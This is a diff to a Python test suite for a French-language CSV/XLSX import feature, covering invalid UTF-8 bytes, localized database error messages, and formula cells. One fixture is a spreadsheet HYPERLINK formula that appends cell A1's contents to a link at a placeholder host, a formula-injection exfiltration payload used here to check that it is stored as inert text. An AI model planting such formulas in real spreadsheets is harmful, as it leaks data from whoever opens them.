@@ -65,6 +65,26 @@ def test_wrong_separator_reads_as_one_column(store):
     assert "Ligne 1, colonne « nom »" in message and "colonne obligatoire absente" in message
 
 
+def test_utf8_file_with_a_few_bad_bytes_lists_those_rows_and_writes_nothing(store):
+    data = ("nom;type\nVille d'Été;collectivité\n".encode() + b"Cr\xe8che de Test;autre\n"
+            + "Hôpital;autre\n".encode())
+    report = run_import(store, FACILITATOR, "acheteurs", data, "a.csv")
+    assert not report.ok and not report.applied
+    assert [(e.row, e.column, e.value) for e in report.errors] == [(3, "nom", "Cr\ufffdche de Test")]
+    assert "octet qui n'est pas de l'UTF-8" in report.error_messages()[0]
+
+
+def test_database_refusal_shows_no_english_detail(store, monkeypatch):
+    from sqlalchemy.exc import IntegrityError
+
+    def refuse(write):
+        raise IntegrityError("INSERT INTO buyer", {}, Exception("UNIQUE constraint failed: buyer.name"))
+
+    monkeypatch.setattr("core.imports.retry_locked", refuse)
+    message = refused(store, "acheteurs", csv_bytes([["nom", "type"], ["Ville Nouvelle", "collectivité"]]))
+    assert message.startswith("La base a refusé l'enregistrement") and "UNIQUE" not in message
+
+
 def test_empty_file(store):
     assert refused(store, "acheteurs", b"") == "Le fichier est vide."
     assert refused(store, "acheteurs", b"\r\n \r\n") == "Le fichier est vide."
@@ -194,8 +214,9 @@ def _stored_object(store, reference: str) -> str:
 
 
 def test_hyperlink_formula_stored_as_text(store):
+    # A text cell that reads as a formula (a formula cell itself is read as its saved result).
     formula = '=HYPERLINK("http://exemple.invalid/?q="&A1,"Cliquez ici")'
-    data = xlsx_bytes([CONTRACT_HEADER, contract_row(objet=formula)], title="marches")
+    data = xlsx_bytes([CONTRACT_HEADER, contract_row(objet=formula)], title="marches", formulas_as_text=True)
     report = run_import(store, FACILITATOR, "marches", data, "m.xlsx")
     assert report.ok and report.created == 1
     assert _stored_object(store, "K20") == formula
